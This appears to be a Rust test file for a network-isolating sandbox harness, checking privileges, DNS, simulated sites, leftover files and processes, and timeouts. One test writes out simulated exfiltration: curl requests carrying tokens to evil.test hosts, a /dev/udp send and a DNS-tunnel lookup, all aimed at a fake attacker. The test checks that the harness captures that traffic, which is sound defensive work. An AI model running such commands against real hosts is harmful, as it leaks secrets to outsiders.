//! The harness itself: what it offers works without a jail, and what it asserts can fail.

use std::net::{IpAddr, Ipv4Addr};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::Arc;
use std::time::Duration;

use crate::enter;
use crate::jail::{Jail, uid};
use crate::suite::{Mode, Suite, both, once};
use crate::wait::patience;
use crate::world::{ATTACKER_V6, BLACK_HOLES, Transport, World, Zone};

const OTHER_RESOLVER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 53);
const HOST_V4: IpAddr = IpAddr::V4(Ipv4Addr::new(198, 18, 0, 2));

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        user_and_privileges,
        names_and_pages,
        attacker_hears_everything,
        servers_remember,
        leaks_are_found,
        black_holes_are_silent,
    );
    once!(suite, deadline_kills, worlds_are_cheap, machine_is_private);
}

/// What tests mount, start and leave in shared memory is not the machine's.
fn machine_is_private() {
    let pairs = enter::namespaces().into_iter().zip(enter::namespaces_outside());
    for (own, outside) in pairs {
        assert_ne!(own, *outside);
    }
}

fn user_and_privileges(mode: Mode) {
    let world = World::new();
    let outcome =
        Jail::direct(&world, mode).shell("id -u; grep CapEff /proc/self/status; cat /etc/resolv.conf");
    outcome.assert_success();
    let mut lines = outcome.stdout.lines();
    assert_eq!(lines.next(), Some(uid(mode).to_string().as_str()), "{outcome}");
    let powerless = lines.next().unwrap().ends_with("\t0000000000000000");
    assert_eq!(powerless, mode == Mode::Rootless, "{outcome}");
    assert_eq!(lines.next(), Some("nameserver 203.0.113.53"), "{outcome}");
}

fn names_and_pages(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let direct = Jail::direct(&world, mode);
    for url in ["http://good.test/", "https://good.test/"] {
        for family in ["-4", "-6"] {
            direct.run(["curl", "-sS", family, url]).assert_success().assert_stdout("hello from good.test\n");
        }
    }
    assert_eq!(site.requests().len(), 4);
    assert_eq!(site.requests()[3].sni.as_deref(), Some("good.test"));
    assert!(world.dns().was_asked_for("good.test"));
    direct.run(["curl", "-sS", "http://missing.test/"]).assert_code(6);
    assert!(world.wire().saw_bytes(b"GET / HTTP/1.1\r\nHost: good.test"));
    world.assert_attacker_saw_nothing();
    world.assert_nothing_left();
}

fn attacker_hears_everything(mode: Mode) {
    let world = World::new();
    let direct = Jail::direct(&world, mode);
    direct.run(["curl", "-sS", "-6", "http://evil.test:8123/token"]).assert_success().assert_stdout("evil\n");
    direct.run(["curl", "-sS", "-6", "https://stolen.evil.test/token-2"]).assert_success();
    direct.shell("echo token-3 >/dev/udp/198.51.100.7/9999").assert_code(2);
    direct.run(["bash", "-c", "echo token-3 >/dev/udp/198.51.100.7/9999"]).assert_success();
    direct
        .run(["dig", "+short", "+time=2", "+tries=1", "token-4.evil.test", "@198.51.100.53"])
        .assert_stdout("198.51.100.66\n");
    for token in ["/token HTTP", "/token-2 HTTP", "token-3"] {
        assert!(world.attacker().heard(token.as_bytes()), "{:?}", world.attacker().contacts());
    }
    assert!(world.dns().was_asked_for("token-4.evil.test"));
    assert!(!world.attacker_saw().is_empty());
    let contact = &world.attacker().contacts()[0];
    assert_eq!((contact.transport, contact.target), (Transport::Tcp, (ATTACKER_V6, 8123).into()));
    assert_eq!(world.attacker().contacts()[1].sni.as_deref(), Some("stolen.evil.test"));
}

fn black_holes_are_silent(mode: Mode) {
    let world = World::new();
    for hole in [BLACK_HOLES.0.to_string(), format!("[{}]", BLACK_HOLES.1)] {
        let url = format!("http://{hole}/");
        Jail::direct(&world, mode).run(["curl", "-sS", "-g", "-m", "0.3", &url]).assert_code(28);
    }
}

fn servers_remember(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let zone = Arc::new(Zone::default());
    zone.txt("note.test", "words").address("note.test", site.v4);
    let other = world.resolver(OTHER_RESOLVER, zone);
    let direct = Jail::direct(&world, mode);
    let at = format!("@{OTHER_RESOLVER}");
    direct.run(["dig", "+short", "+tcp", "TXT", "note.test", &at]).assert_stdout("\"words\"\n");
    let asked = &other.asked()[0];
    assert_eq!((asked.transport, asked.server), (Transport::Tcp, OTHER_RESOLVER.into()));
    assert!(world.dns().asked().is_empty());
    direct.run(["curl", "-sS", "-4", "http://good.test/"]).assert_success();
    let request = &site.requests()[0];
    assert_eq!(request.server, (site.v4, 80).into());
    assert_eq!(request.client.ip(), HOST_V4);
    assert_eq!(request.sni, None);
}

fn leaks_are_found(mode: Mode) {
    let world = World::new();
    let direct = Jail::direct(&world, mode);
    direct.shell("touch /tmp/forgotten").assert_success();
    assert_eq!(world.left_after(Duration::ZERO).len(), 1);
    direct.shell("rm /tmp/forgotten").assert_success();
    world.assert_nothing_left();
    let sleeper = direct.start(["sleep", "1000"]);
    assert_eq!(world.left_after(Duration::ZERO).len(), 1);
    drop(sleeper);
    world.assert_nothing_left();
}

fn deadline_kills() {
    let world = World::new();
    let direct = Jail::direct(&world, Mode::Root).within(Duration::from_millis(100));
    assert!(fails(|| drop(direct.run(["sleep", "1000"]))));
    world.assert_nothing_left();
}

fn worlds_are_cheap() {
    let before = std::time::Instant::now();
    drop(World::new());
    let cost = before.elapsed();
    assert!(cost < Duration::from_secs(2) * patience(), "{cost:?}");
}

/// Whether an assertion fails; its message is not shown.
fn fails(assertion: impl FnOnce()) -> bool {
    catch_unwind(AssertUnwindSafe(assertion)).is_err()
}
